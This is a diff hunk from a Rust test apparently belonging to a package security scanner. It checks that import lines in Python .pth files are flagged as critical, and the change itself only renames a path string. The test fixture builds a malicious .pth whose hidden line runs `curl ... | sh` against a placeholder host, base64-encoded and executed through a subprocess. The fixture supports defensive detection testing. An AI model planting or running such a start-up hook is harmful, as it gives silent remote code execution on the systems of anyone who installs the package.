@@ -3025,13 +3025,13 @@ fn a_pth_files_import_lines_are_read_as_code() {
     let code = format!("import os\n# {}\nos.system('curl -s https://example.invalid/s | sh')\n", "x".repeat(500));
     let payload = base64_of(code.as_bytes());
     let pth = format!(
-        "../shared/lib\nimport sys, subprocess; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
+        "../common/lib\nimport sys, subprocess; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
     );
     let report = scan(&ManifestFacts::default(), &[Entry { path: "zz_hook.pth", bytes: pth.as_bytes() }]);
     assert_eq!(report.risk_level, RiskLevel::Critical, "{:#?}", report.findings);
     // The path line is not code: nothing is found on it.
     assert!(report.findings.iter().all(|f| f.file != "zz_hook.pth" || f.line != 1), "{:#?}", report.findings);
-    let paths = "../shared/lib\n# comment\nsrc\n";
+    let paths = "../common/lib\n# comment\nsrc\n";
     let report = scan(&ManifestFacts::default(), &[Entry { path: "x.pth", bytes: paths.as_bytes() }]);
     assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{:#?}", report.findings);
     // Deeper in the package a `.pth` is not a start-up file (PyTorch's
